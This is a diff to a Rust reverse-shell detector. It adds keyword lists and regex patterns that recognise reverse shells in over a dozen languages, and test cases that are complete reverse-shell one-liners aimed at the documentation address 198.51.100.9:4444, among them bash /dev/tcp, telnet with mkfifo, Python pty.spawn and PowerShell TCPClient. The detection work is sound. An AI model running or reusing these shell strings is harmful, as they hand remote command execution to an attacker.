@@ -16,6 +16,7 @@ pub(crate) const LITERALS: &[&str] = &[
     "mkfifo",
     "dup2(",
     "pty.spawn",
+    "socket.socket(",
     "fsockopen",
     "TCPSocket",
     "sockaddr_in(",
@@ -28,6 +29,28 @@ pub(crate) const LITERALS: &[&str] = &[
     "| nc ",
     "nc.traditional",
     " -e /bin/",
+    "telnet ",
+    "/inet/tcp/",
+    "socket.tcp",
+    "require(\"socket\")",
+    "require('socket')",
+    "net.Dial(",
+    "TcpStream::connect",
+    "new Socket(",
+    "TCPClient(",
+    "TcpClient ",
+    "TcpClient]",
+    "socket_connect(",
+    "stream_socket_client",
+    "inet_addr(",
+    "inet_pton(",
+    "createConnection(",
+    "create_connection(",
+    "xterm -display",
+    "zsh/net/tcp",
+    "ztcp ",
+    "rcat ",
+    "TCPSocket.",
 ];
 
 const HOST_PORT: &str = r"(?P<host>[A-Za-z0-9$_{<\[:][A-Za-z0-9.$_{}<>\[\]:-]*?)";
@@ -46,7 +69,7 @@ macro_rules! form {
     };
 }
 
-static FORMS: [Form; 13] = [
+static FORMS: [Form; 32] = [
     form!(
         "bash over /dev/tcp",
         format!(
@@ -126,6 +149,107 @@ static FORMS: [Form; 13] = [
         r#"(?s)connect\(\s*(?P<port>\d+)\s*,\s*['"](?P<host>[^'"\s]+)['"].{0,400}?\.pipe\("#,
         &["child_process", "sh", "spawn"]
     ),
+    form!(
+        "shell over a /dev/tcp descriptor",
+        format!(
+            r"exec\s+(?:\d*<>?|[<>]&?|\d+>)\s*/dev/(?:tcp|udp)/{HOST_PORT}/(?P<port>\d+)[^\n]{{0,40}}(?:0>&1|<&|1>&0|>&0|2>&1)(?s:.{{0,160}}?)\b(?:ba|da|z|k)?sh\b"
+        ),
+        &[]
+    ),
+    form!(
+        "bash over /dev/tcp",
+        format!(
+            r"(?:ba|da|z|k)?sh\b[^\n;]{{0,40}}<\s*/dev/(?:tcp|udp)/{HOST_PORT}/(?P<port>\d+)|\b(?:ba|da|z|k)?sh\b[^\n;|]{{0,30}}(?:&>|>&|>)\s*/dev/(?:tcp|udp)/(?P<host2>[A-Za-z0-9][A-Za-z0-9.-]*)/(?P<port2>\d+)\s*(?:0>&1|<&1|0<&1)"
+        ),
+        &[]
+    ),
+    form!(
+        "shell piped into telnet",
+        format!(r"\btelnet\s+{HOST_PORT}\s+(?P<port>\d+)\s*(?:0<\s*\S+\s*1>\s*\S+|\|\s*(?:/\S*/)?(?:ba|da|z|k)?sh\b)"),
+        &[]
+    ),
+    form!(
+        "shell piped into the network",
+        format!(
+            r"(?s)mk(?:fifo|nod)\s.{{0,160}}?(?:\b(?:nc|ncat|netcat|telnet|busybox nc)\s+(?:-\w+\s+)*{HOST_PORT}\s+(?P<port>\d+)[^\n]{{0,60}}[|<>]|socat[^\n]{{0,40}}tcp[46]?:(?P<host2>[A-Za-z0-9.-]+):(?P<port2>\d+))[^\n]{{0,80}}"
+        ),
+        &["sh"]
+    ),
+    form!(
+        "awk that talks to the network and runs what it hears",
+        format!(r"(?s)/inet/tcp/0/{HOST_PORT}/(?P<port>\d+).{{0,300}}?(?:\|\s*&?\s*getline|\|&)"),
+        &["awk", "getline"]
+    ),
+    form!(
+        "socket given to a shell (Lua)",
+        r#"(?s)(?::connect\(|socket\.connect\(|socket\.tcp\(\).{0,80}?connect\()\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*['"]?(?P<port>\d+).{0,300}?(?:os\.execute|io\.popen)\s*\("#,
+        &["socket"]
+    ),
+    form!(
+        "socket given to a shell (Go)",
+        r#"(?s)net\.Dial\(\s*"tcp[46]?"\s*,\s*"(?P<host>[^"\s:]+):(?P<port>\d+)"\s*\).{0,500}?exec\.Command\(\s*"[^"\n]*(?:sh|cmd|cmd\.exe|powershell)""#,
+        &[]
+    ),
+    form!(
+        "socket given to a shell (Rust)",
+        r#"(?s)TcpStream::connect\(\s*"(?P<host>[^"\s:]+):(?P<port>\d+)"\s*\).{0,500}?Command::new\(\s*"[^"\n]*(?:sh|cmd)""#,
+        &[]
+    ),
+    form!(
+        "socket given to a shell (Java)",
+        r#"(?s)new\s+(?:java\.net\.)?Socket\(\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+)\s*\)"#,
+        &["sh", "getOutputStream"]
+    ),
+    form!(
+        "socket given to a shell (Java)",
+        r#"(?s)String\s+\w+\s*=\s*"(?P<host>[^"\s]+)"\s*;\s*int\s+\w+\s*=\s*(?P<port>\d+)\s*;.{0,200}?(?:ProcessBuilder|\.exec\().{0,120}?new\s+(?:java\.net\.)?Socket\("#,
+        &["sh"]
+    ),
+    form!(
+        "socket given to a shell (PowerShell)",
+        r#"(?is)TCPClient\]?(?:::new)?[\s(]+['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+).{0,700}?(?:\biex\b|invoke-expression|cmd(?:\.exe)?\s*/c|powershell|/bin/\w*sh)"#,
+        &["getstream"]
+    ),
+    form!(
+        "socket given to a shell (C#)",
+        r#"(?s)new\s+TcpClient\(\s*"(?P<host>[^"\s]+)"\s*,\s*(?P<port>\d+)\s*\)"#,
+        &["Process", "StandardInput"]
+    ),
+    form!(
+        "socket given to a shell (PHP)",
+        r#"(?s)(?:fsockopen|stream_socket_client)\(\s*['"](?:tcp://|udp://)?(?P<host>[^'"\s:]+)(?:['"]\s*,\s*|:)(?P<port>\d+).{0,500}?proc_open\s*\("#,
+        &["sh"]
+    ),
+    form!(
+        "socket given to a shell (PHP)",
+        r#"(?s)\$(?:ip|host|addr|address|server|remote|h|rhost|lhost)\s*=\s*['"](?P<host>[^'"\s]+)['"]\s*;.{0,200}?\$(?:port|p|rport|lport)\s*=\s*['"]?(?P<port>\d+)['"]?\s*;.{0,700}?(?:fsockopen|socket_connect|stream_socket_client)\("#,
+        &["sh", "proc_open"]
+    ),
+    form!(
+        "socket given to a shell (PHP)",
+        r#"(?s)socket_connect\(\s*\$\w+\s*,\s*['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+)\s*\).{0,500}?(?:shell_exec|exec|popen|proc_open|system)\s*\(\s*(?:\$|['"][^'"\n]{0,20}sh)"#,
+        &["socket_read"]
+    ),
+    form!(
+        "socket given to a shell (Python)",
+        r#"(?s)(?:\.connect(?:_ex)?\(\s*\(\s*|create_connection\(\s*\(\s*|open_connection\(\s*)['"](?P<host>[^'"\s]+)['"]\s*,\s*(?P<port>\d+)\s*\)?.{0,700}?(?:recv\(|read\w*\(|makefile\().{0,300}?(?:shell\s*=\s*True|os\.popen\(|getoutput\(|create_subprocess_shell\(|os\.system\()"#,
+        &["socket"]
+    ),
+    form!(
+        "socket given to a shell (Python)",
+        r#"(?s)(?:^|\n)\s*(?:\w*(?:HOST|host|IP|ip|ADDR|addr|SERVER|server|C2|c2|H|h)\w*)\s*=\s*['"](?P<host>[^'"\s]+)['"].{0,80}?(?:\n|;|,)\s*(?:\w*(?:PORT|port)\w*|P|p)\s*=\s*(?P<port>\d+).{0,600}?\.connect(?:_ex)?\(\s*\(.{0,400}?(?:dup2\(|pty\.spawn\(|stdin\s*=|shell\s*=\s*True)"#,
+        &["socket", "sh"]
+    ),
+    form!(
+        "socket given to a shell (C)",
+        r#"(?s)(?:htons\(\s*(?P<port>\d+)\s*\).{0,300}?(?:inet_addr|inet_aton|inet_pton)\([^"\n]{0,40}"(?P<host>[^"\s]+)"|(?:inet_addr|inet_aton|inet_pton)\([^"\n]{0,40}"(?P<host2>[^"\s]+)".{0,300}?htons\(\s*(?P<port2>\d+)\s*\)).{0,600}?dup2\(.{0,400}?(?:exec[lv]p?e?|system|popen)\s*\("#,
+        &["sh\"", "connect("]
+    ),
+    form!(
+        "socket given to a shell (Node)",
+        r#"(?s)(?:connect|createConnection)\(\s*\{[^}]{0,120}?(?:port\s*:\s*(?P<port>\d+)[^}]{0,60}?host\s*:\s*['"](?P<host>[^'"\s]+)|host\s*:\s*['"](?P<host2>[^'"\s]+)['"][^}]{0,60}?port\s*:\s*(?P<port2>\d+)).{0,400}?\.pipe\("#,
+        &["child_process", "sh", "spawn"]
+    ),
 ];
 
 fn regex(pattern: &str) -> Regex {
@@ -169,6 +293,9 @@ fn first(form: &Form, text: &str) -> Option<Shell> {
     if form.name.contains("Perl") && !is_perl_shell(text) || form.name.contains("Python") && !text.contains("import") {
         return None;
     }
+    if form.name.contains("Java") && !JAVA.is_match(text) {
+        return None;
+    }
     // One address of the same socat, not one of another example.
     if form.name.starts_with("socat") && !SOCAT.is_match(command_at(text, whole.start())) {
         return None;
@@ -184,6 +311,9 @@ static PERL: LazyLock<Regex> = LazyLock::new(|| {
     regex(
         r#"(?s)(?:open\s*\(?\s*STDIN\s*,\s*['"][<>]*&|STDIN->fdopen\().{0,300}?(?:exec|system)[\s({]*['"$]?[^\n]{0,20}(?:sh\b|\$_)"#,
     )
+});
+static JAVA: LazyLock<Regex> = LazyLock::new(|| {
+    regex(r#"(?s)(?:ProcessBuilder\(|\.exec\(|\.execute\(\)).*|["'](?:/bin/)?(?:ba|z|k)?sh["']|["']cmd(?:\.exe)?["']"#)
 });
 static SOCAT: LazyLock<Regex> = LazyLock::new(|| regex(r#"(?i)\bexec:['"]?[^\n,'"]{0,30}\b(?:ba|da|z|k)?sh\b"#));
 
@@ -237,6 +367,58 @@ mod tests {
             (
                 "f=TCPSocket.open(\"198.51.100.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
                 "socket given to a shell (Ruby)",
+            ),
+            ("exec 0<>/dev/tcp/198.51.100.9/4444 1>&0 2>&0; exec sh", "shell over a /dev/tcp descriptor"),
+            ("bash &>/dev/tcp/198.51.100.9/4444 <&1", "bash over /dev/tcp"),
+            ("sh -i 5<> /dev/tcp/198.51.100.9/4444 0<&5 1>&5 2>&5", "bash over /dev/tcp"),
+            ("telnet 198.51.100.9 4444 | /bin/sh | telnet 198.51.100.9 4445", "shell piped into telnet"),
+            (
+                "TF=$(mktemp -u); mkfifo $TF && telnet 198.51.100.9 4444 0<$TF | sh 1>$TF",
+                "shell piped into the network",
+            ),
+            (
+                "awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.9/4444\";while(1){printf \"> \" |& s; s |& getline c; while((c |& getline)>0) print |& s; close(c)}}'",
+                "awk that talks to the network and runs what it hears",
+            ),
+            (
+                "local s=require('socket');local t=assert(s.tcp());t:connect('198.51.100.9',4444);while true do local r=t:receive();local f=assert(io.popen(r,'r'));end",
+                "socket given to a shell (Lua)",
+            ),
+            (
+                "c,_:=net.Dial(\"tcp\",\"198.51.100.9:4444\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Run()",
+                "socket given to a shell (Go)",
+            ),
+            (
+                "let s = TcpStream::connect(\"198.51.100.9:4444\").unwrap(); Command::new(\"/bin/sh\").arg(\"-i\")",
+                "socket given to a shell (Rust)",
+            ),
+            (
+                "String host=\"198.51.100.9\";int port=4444;String cmd=\"sh\";Process p=new ProcessBuilder(cmd).start();Socket s=new Socket(host,port);",
+                "socket given to a shell (Java)",
+            ),
+            (
+                "$client = New-Object System.Net.Sockets.TCPClient('198.51.100.9',4444);$stream = $client.GetStream();while(1){$r=(iex $d 2>&1)}",
+                "socket given to a shell (PowerShell)",
+            ),
+            (
+                "$ip = '198.51.100.9';\n$port = 4444;\n$sock = fsockopen($ip, $port, $e, $s, 30);\n$process = proc_open('/bin/sh -i', $d, $pipes);",
+                "socket given to a shell (PHP)",
+            ),
+            (
+                "import socket,subprocess\ns=socket.socket()\ns.connect(('198.51.100.9',4444))\nwhile True:\n    c=s.recv(1024).decode()\n    s.send(subprocess.check_output(c,shell=True))",
+                "socket given to a shell (Python)",
+            ),
+            (
+                "import socket,os,pty\nHOST = '198.51.100.9'\nPORT = 4444\ns=socket.socket()\ns.connect((HOST, PORT))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')",
+                "socket given to a shell (Python)",
+            ),
+            (
+                "a.sin_port = htons(4444);\na.sin_addr.s_addr = inet_addr(\"198.51.100.9\");\nconnect(s, (struct sockaddr *)&a, sizeof a);\ndup2(s, 0);\nexecve(\"/bin/sh\", v, 0);",
+                "socket given to a shell (C)",
+            ),
+            (
+                "const cp=require('child_process');const net=require('net');const c=net.createConnection({host:'198.51.100.9',port:4444},()=>{const sh=cp.spawn('/bin/sh');c.pipe(sh.stdin);sh.stdout.pipe(c)})",
+                "socket given to a shell (Node)",
             ),
             (
                 "var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);var k=new n.Socket();k.connect(4444,'198.51.100.9',function(){k.pipe(s.stdin);s.stdout.pipe(k)})",
